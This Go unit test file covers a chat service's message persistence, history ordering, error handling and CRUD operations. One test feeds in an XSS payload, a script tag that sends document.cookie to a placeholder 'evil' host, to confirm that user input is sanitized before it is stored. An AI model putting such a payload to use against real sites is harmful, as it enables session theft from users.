package service

import (
	"context"
	"errors"
	"protoforge/internal/model"
	"protoforge/internal/repository"
	"protoforge/pkg/llm"
	"testing"
	"time"
)

func newTestChatService(client *scriptedLLM, store *countingStore) *chatService {
	g := newTestGenerator(client, &fakeRetriever{})
	s := NewChatService(g, store).(*chatService)
	s.now = func() time.Time { return time.Date(2025, 5, 1, 11, 59, 0, 0, time.UTC) }
	return s
}

func TestRespond_PersistsBothTurns(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: stage2Reply}}}
	store := &countingStore{ChatStore: repository.NewMemoryChatStore(0)}
	s := newTestChatService(client, store)

	req := model.GenerateRequest{UserID: "alice", Prompt: "Build me a todo app", Time: "2025-05-01T11:58:00Z"}
	resp, err := s.Respond(context.Background(), req, nil)
	if err != nil {
		t.Fatalf("Respond() error = %v", err)
	}

	history, err := s.History(context.Background(), "", 10, 0)
	if err != nil {
		t.Fatalf("History() error = %v", err)
	}
	if len(history) != 2 {
		t.Fatalf("history len = %d, want 2", len(history))
	}
	user, assistant := history[0], history[1]
	if user.SenderID != "alice" || user.Content != req.Prompt || user.ConversationID != model.DefaultConversationID {
		t.Errorf("user turn = %+v", user)
	}
	if !user.Timestamp.Equal(time.Date(2025, 5, 1, 11, 58, 0, 0, time.UTC)) {
		t.Errorf("user timestamp = %v", user.Timestamp)
	}
	if assistant.SenderID != model.AssistantSenderID || assistant.Content != resp.Response {
		t.Errorf("assistant turn = %+v", assistant)
	}
	if assistant.Metadata["stage2_outcome"] != "parsed" {
		t.Errorf("assistant metadata = %v", assistant.Metadata)
	}

	mine, _ := s.UserMessages(context.Background(), "alice", 0, 0)
	if len(mine) != 1 {
		t.Errorf("UserMessages() len = %d, want 1", len(mine))
	}
}

func TestRespond_FailureNeverTouchesStore(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{err: &llm.Error{Kind: llm.Timeout, Err: context.DeadlineExceeded}}}}
	store := &countingStore{ChatStore: repository.NewMemoryChatStore(0)}
	s := newTestChatService(client, store)

	_, err := s.Respond(context.Background(), model.GenerateRequest{UserID: "u", Prompt: "Build me a todo app"}, nil)
	if !llm.IsKind(err, llm.Timeout) {
		t.Fatalf("error = %v, want timeout", err)
	}
	if store.saves != 0 {
		t.Errorf("store.Save called %d times", store.saves)
	}
}

func TestRespond_PersistenceErrorIsAbsorbed(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: stage2Reply}}}
	store := &countingStore{ChatStore: repository.NewMemoryChatStore(0), err: errors.New("redis down")}
	s := newTestChatService(client, store)

	resp, err := s.Respond(context.Background(), model.GenerateRequest{UserID: "u", Prompt: "Build me a todo app"}, nil)
	if err != nil {
		t.Fatalf("Respond() error = %v", err)
	}
	if resp == nil || resp.Response == "" {
		t.Fatal("empty response")
	}
	if store.saves != 2 {
		t.Errorf("save attempts = %d, want 2", store.saves)
	}
}

func TestRespond_AssistantSortsAfterUser(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: stage2Reply}}}
	store := &countingStore{ChatStore: repository.NewMemoryChatStore(0)}
	s := newTestChatService(client, store)

	// 请求时间晚于生成完成时间（客户端时钟偏差）
	req := model.GenerateRequest{UserID: "u", Prompt: "Build me a todo app", ConversationID: "c", Time: "2030-01-01T00:00:00Z"}
	if _, err := s.Respond(context.Background(), req, nil); err != nil {
		t.Fatalf("Respond() error = %v", err)
	}
	history, _ := s.History(context.Background(), "c", 10, 0)
	if len(history) != 2 || history[0].SenderID != "u" || history[1].SenderID != model.AssistantSenderID {
		t.Errorf("history order = %+v", history)
	}
}

func TestRespond_StoresSanitizedUserTurn(t *testing.T) {
	client := &scriptedLLM{replies: []llmReply{{text: stage1Reply}, {text: stage2Reply}}}
	store := &countingStore{ChatStore: repository.NewMemoryChatStore(0)}
	s := newTestChatService(client, store)

	req := model.GenerateRequest{UserID: "u", Prompt: `<script>fetch("//evil/"+document.cookie)</script>Build me a todo app`}
	if _, err := s.Respond(context.Background(), req, nil); err != nil {
		t.Fatalf("Respond() error = %v", err)
	}
	mine, err := s.UserMessages(context.Background(), "u", 10, 0)
	if err != nil || len(mine) != 1 {
		t.Fatalf("UserMessages() = %+v, %v", mine, err)
	}
	if mine[0].Content != "Build me a todo app" {
		t.Errorf("stored user turn = %q, want sanitized text", mine[0].Content)
	}
}

func TestSaveMessage(t *testing.T) {
	store := &countingStore{ChatStore: repository.NewMemoryChatStore(0)}
	s := newTestChatService(&scriptedLLM{}, store)
	ctx := context.Background()

	if _, err := s.SaveMessage(ctx, &model.ChatMessage{SenderID: "u"}); !errors.Is(err, ErrInvalidMessage) {
		t.Errorf("SaveMessage(empty content) error = %v", err)
	}
	saved, err := s.SaveMessage(ctx, &model.ChatMessage{SenderID: "u", Content: "note"})
	if err != nil {
		t.Fatalf("SaveMessage() error = %v", err)
	}
	if saved.ID == "" || saved.ConversationID != model.DefaultConversationID || saved.Timestamp.IsZero() {
		t.Errorf("saved = %+v", saved)
	}
	got, err := s.GetMessage(ctx, saved.ID)
	if err != nil || got.Content != "note" {
		t.Errorf("GetMessage() = %+v, %v", got, err)
	}
	if ok, _ := s.DeleteMessage(ctx, saved.ID); !ok {
		t.Error("DeleteMessage() = false")
	}
	if ok, _ := s.DeleteMessage(ctx, saved.ID); ok {
		t.Error("second DeleteMessage() = true")
	}
}
